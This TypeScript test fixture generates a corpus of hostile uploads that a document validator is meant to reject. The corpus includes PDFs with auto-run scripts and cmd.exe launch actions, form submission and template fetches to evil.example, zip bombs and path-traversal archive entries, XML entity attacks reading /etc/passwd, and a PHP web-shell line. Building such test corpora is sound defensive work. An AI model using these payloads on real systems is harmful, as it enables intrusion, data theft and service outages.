import { deflateRawSync } from 'node:zlib'
import {
  docxParts,
  pdfWith,
  pptxParts,
  relations,
  sampleJpeg,
  samplePdf,
  samplePng,
  xlsxParts,
  zipped,
} from './sample-files'

/** Files that must never be taken: named as they would be sent, made here and nowhere fetched. */
type Hostile = { name: string; bytes: Buffer; why: string }

const replaced = (more: Record<string, string | Uint8Array>) => zipped({ ...docxParts(), ...more })
const zeros = (megabytes: number) => new Uint8Array(megabytes * 1_000_000)
/** One part of a ZIP with a head of one's own: false sizes, flags, links. */
function zipOfOne(
  name: string,
  content: Buffer,
  {
    flags = 0,
    said = content.length,
    attributes = 0,
    made = 20,
  }: { flags?: number; said?: number; attributes?: number; made?: number } = {},
): Buffer {
  const packed = deflateRawSync(content)
  const title = Buffer.from(name)
  const shared = Buffer.alloc(26)
  shared.writeUInt16LE(20, 0)
  shared.writeUInt16LE(flags, 2)
  shared.writeUInt16LE(8, 4)
  shared.writeUInt32LE(packed.length, 14)
  shared.writeUInt32LE(said, 18)
  shared.writeUInt16LE(title.length, 22)
  const local = Buffer.concat([Buffer.from('504b0304', 'hex'), shared, title, packed])
  const central = Buffer.alloc(46)
  central.write('PK\u0001\u0002', 'latin1')
  central.writeUInt16LE(made, 4)
  shared.copy(central, 6)
  central.writeUInt32LE(attributes >>> 0, 38)
  const end = Buffer.alloc(22)
  end.write('PK\u0005\u0006', 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(46 + title.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, title, end])
}

export async function hostileCorpus(): Promise<Hostile[]> {
  const pdf = await samplePdf([['A page.']])
  const docx = zipped(docxParts())
  const laughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "&a;&a;&a;&a;">`).join('')}]><w:document>&a8;</w:document>`
  const external =
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
  const linked = (type: string, target: string) =>
    replaced({ 'word/_rels/document.xml.rels': relations(['rId1', type, target, 'External']) })
  const visit = '<< /S /URI /URI (https://evil.example) >>'
  const many = Object.fromEntries(Array.from({ length: 2_100 }, (_, n) => [`word/part${n}.xml`, '<a/>']))
  const one = (name: string, bytes: Buffer | string, why: string): Hostile => ({
    name,
    bytes: Buffer.from(bytes),
    why,
  })
  return [
    one('empty.pdf', '', 'no bytes'),
    one('empty.docx', '', 'no bytes'),
    one('page.pdf', '<!doctype html><html><script>alert(1)</script></html>', 'HTML as PDF'),
    one('page.docx', '<html></html>', 'HTML as DOCX'),
    one(
      'drawing.png',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'SVG as PNG',
    ),
    one('drawing.svg', '<svg/>', 'SVG'),
    one('run.exe', 'MZ\u0090\u0000', 'a program'),
    one('run.pdf', 'MZ\u0090\u0000\u0003', 'a program as PDF'),
    one('script.pdf.js', 'alert(1)', 'a script'),
    one('report.pdf', docx, 'DOCX as PDF'),
    one('report.docx', pdf, 'PDF as DOCX'),
    one('report.png', pdf, 'PDF as PNG'),
    one('picture.jpg', samplePng(10, 10), 'PNG as JPEG'),
    one('table.xlsx', docx, 'DOCX as XLSX'),
    one('slides.pptx', zipped(xlsxParts()), 'XLSX as PPTX'),
    one('table.docx', zipped(pptxParts()), 'PPTX as DOCX'),
    one('archive.docx', zipped({ 'a.txt': 'text' }), 'a plain archive'),
    one('both.pdf', Buffer.concat([pdf, docx]), 'PDF and archive in one'),
    one(
      'both2.pdf',
      Buffer.concat([Buffer.from('%PDF-1.4\n<html><script>1</script></html>\n'), pdf]),
      'PDF and HTML in one',
    ),
    one('late.pdf', Buffer.concat([Buffer.from('junk before '), pdf]), 'a PDF behind something else'),
    one('tail.pdf', Buffer.concat([pdf, Buffer.from('<?php system($_GET[0]) ?>')]), 'something behind a PDF'),
    one('cut.pdf', pdf.subarray(0, pdf.length - 400), 'a PDF cut off'),
    one(
      'broken.pdf',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000, 7), Buffer.from('\n%%EOF')]),
      'a PDF of noise',
    ),
    one('script1.pdf', pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'PDF with a script'),
    one(
      'script2.pdf',
      pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
      'PDF with a hidden script',
    ),
    one(
      'script3.pdf',
      pdfWith('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'),
      'PDF with a named script',
    ),
    one('launch.pdf', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'PDF that starts a program'),
    one(
      'submit.pdf',
      pdfWith('/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>'),
      'PDF that sends',
    ),
    one(
      'inside.pdf',
      pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 3 0 R >> >>] >> >>'),
      'PDF with a file inside',
    ),
    one('media.pdf', pdfWith('/X << /Subtype /RichMedia >>'), 'PDF with media'),
    one('form.pdf', pdfWith('/AcroForm << /XFA [] >>'), 'PDF with an XFA form'),
    one(
      'elsewhere.pdf',
      pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\server\\\\share) >>'),
      'PDF that opens another',
    ),
    one('visit1.pdf', pdfWith(`/OpenAction ${visit}`), 'PDF that opens a web address'),
    one('visit2.pdf', pdfWith(`/AA << /WC ${visit} >>`), 'PDF that opens a web address when it is closed'),
    one('visit3.pdf', pdfWith('', `/AA << /O ${visit} >>`), 'PDF with a page that opens a web address'),
    one(
      'visit4.pdf',
      pdfWith('/OpenAction 4 0 R', '', visit.replace('/URI', '5 0 R'), '/URI'),
      'PDF that opens a web address, in objects of their own',
    ),
    one(
      'visit5.pdf',
      pdfWith(
        '',
        '/AA 4 0 R',
        '<< /C 5 0 R >>',
        '<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>',
        '7 0 R',
        visit,
      ),
      'PDF with a page that opens a web address after a turn of pages',
    ),
    one(
      'named.pdf',
      pdfWith('/OpenAction << /S 4 0 R /F (cmd.exe) >>', '', '/Launch'),
      'PDF that starts a program, with its name in an object of its own',
    ),
    one(
      'locked.pdf',
      pdfWith('')
        .toString('latin1')
        .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /O (a) /U (b) /P -4 >>'),
      'PDF with a password',
    ),
    one('bomb1.docx', replaced({ 'word/media/image1.xml': zeros(190) }), 'a part that unpacks to 190 MB'),
    one(
      'bomb2.docx',
      replaced({ 'word/a.xml': zeros(110), 'word/b.xml': zeros(110) }),
      'parts that unpack to 220 MB',
    ),
    one(
      'bomb3.docx',
      zipOfOne('[Content_Types].xml', Buffer.alloc(50_000_000), { said: 0 }),
      'a size that is said to be none',
    ),
    one(
      'bomb4.docx',
      zipOfOne('[Content_Types].xml', Buffer.alloc(50_000_000), { said: 100 }),
      'a size that is said to be small',
    ),
    one('nested.docx', replaced({ 'word/inner.zip': docx }), 'an archive inside'),
    one(
      'nested2.docx',
      replaced({ 'word/embeddings/inner.docx': zipped({ ...docxParts(), 'word/vbaProject.bin': 'x' }) }),
      'macros in a document inside',
    ),
    one('many.docx', replaced(many), 'too many parts'),
    one('macro.docx', replaced({ 'word/vbaProject.bin': 'x' }), 'macros'),
    one(
      'macro.xlsx',
      zipped({ ...xlsxParts(), 'xl/macrosheets/sheet1.xml': '<a/>' }),
      'macros of an old kind',
    ),
    one(
      'renamed.docx',
      replaced({
        '[Content_Types].xml': docxParts()['[Content_Types].xml']!.replace(
          'document.main',
          'document.macroEnabled.main',
        ),
      }),
      'DOCM as DOCX',
    ),
    one('real.docm', docx, 'DOCM'),
    one('object.docx', replaced({ 'word/embeddings/oleObject1.bin': 'x' }), 'an embedded object'),
    one('activex.docx', replaced({ 'word/activeX/activeX1.xml': '<a/>' }), 'a control'),
    one('program.docx', replaced({ 'word/media/run.exe': 'MZ' }), 'a program inside'),
    one('page.docx', replaced({ 'word/afchunk.html': '<script>1</script>' }), 'a page inside'),
    one('up.docx', zipOfOne('../../etc/cron.d/x', Buffer.from('x')), 'a part that leads out'),
    one('root.docx', zipOfOne('/etc/passwd', Buffer.from('x')), 'a part from the root'),
    one('back.docx', zipOfOne('..\\..\\x', Buffer.from('x')), 'a part that leads out the other way'),
    one(
      'link.docx',
      zipOfOne('word/document.xml', Buffer.from('/etc/passwd'), { made: 0x0314, attributes: 0o120777 << 16 }),
      'a link',
    ),
    one('locked.docx', zipOfOne('[Content_Types].xml', Buffer.from('x'), { flags: 1 }), 'a password'),
    one('laughs.docx', replaced({ 'word/document.xml': laughs }), 'entities that multiply'),
    one('entity.docx', replaced({ 'word/document.xml': external }), 'an entity from elsewhere'),
    one(
      'template.docx',
      linked('attachedTemplate', 'https://evil.example/t.dotm'),
      'a template from elsewhere',
    ),
    one('file.docx', linked('hyperlink', 'file:///etc/passwd'), 'a link to a file'),
    one('share.docx', linked('image', '\\\\server\\share\\x.png'), 'a picture from a share'),
    one('run.docx', linked('hyperlink', 'javascript:alert(1)'), 'a link that runs'),
    one('broken.docx', docx.subarray(0, docx.length - 30), 'an archive cut off'),
    one(
      'noise.docx',
      Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(4_000, 9)]),
      'noise as an archive',
    ),
    one('huge.png', samplePng(50_000, 50_000), 'a picture of 2,500 million points'),
    one('huge.jpg', sampleJpeg(60_000, 60_000), 'a picture of 3,600 million points'),
    one('broken.png', samplePng(10, 10).subarray(0, 20), 'a picture cut off'),
    one('\u202efdp.exe.pdf', pdf, 'letters that turn'),
    one(`${'a'.repeat(100_000)}.pdf`, pdf, 'a name of 100 kB'),
    one('a\u0000b.pdf', pdf, 'a zero in the name'),
    one('noend', pdf, 'no end of the name'),
    one('old.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'an old format'),
  ]
}
